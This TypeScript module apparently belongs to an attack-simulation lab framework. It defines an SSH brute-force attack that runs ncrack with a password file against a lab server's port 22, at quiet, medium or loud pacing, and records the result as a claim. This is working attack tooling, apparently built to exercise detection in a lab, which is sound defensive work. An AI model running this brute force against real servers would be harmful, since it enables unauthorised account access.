import { type Attack, type Intensity, intensities } from '../contracts.ts';
import { account } from '../services/own-folder.ts';
import { claimOn, passwordFile, withoutFolder } from './guesses.ts';

const sshPort = 22;
/** Connections at most and at least, tries in each, and how far apart they begin. */
const paces: Readonly<Record<Intensity, string>> = {
  quiet: 'CL=1,cl=1,at=1,cd=4',
  medium: 'CL=3,cl=1,at=1,cd=350ms',
  loud: 'CL=12,cl=4,at=1,cd=80ms',
};

/** ncrack against sshd, which answers so fast that the tool has to be held back. */
export const sshBruteForce: Attack = {
  kind: 'ssh-brute-force',
  summary: 'passwords guessed over SSH',
  needs: ['ncrack'],
  intensities,
  actor: 'guest',
  targets: ['server'],
  async run(order) {
    const { actor, intensity, lab, seconds, signal } = order;
    const target = order.targets[0] ?? lab.host('server');
    const { path } = passwordFile(order, account.password);
    const service = `ssh://${target.address}:${sshPort},${paces[intensity]}`;
    const words = ['--user', account.user, '-P', path, service];
    // Ended early, it saves where it was in its home.
    await actor.machine.attempt('env', [`HOME=${actor.folder}`, 'ncrack', ...words], { seconds, signal });
    return {
      tool: 'ncrack',
      arguments: withoutFolder(words, actor),
      claims: [claimOn(actor, [target], sshPort)],
    };
  },
};
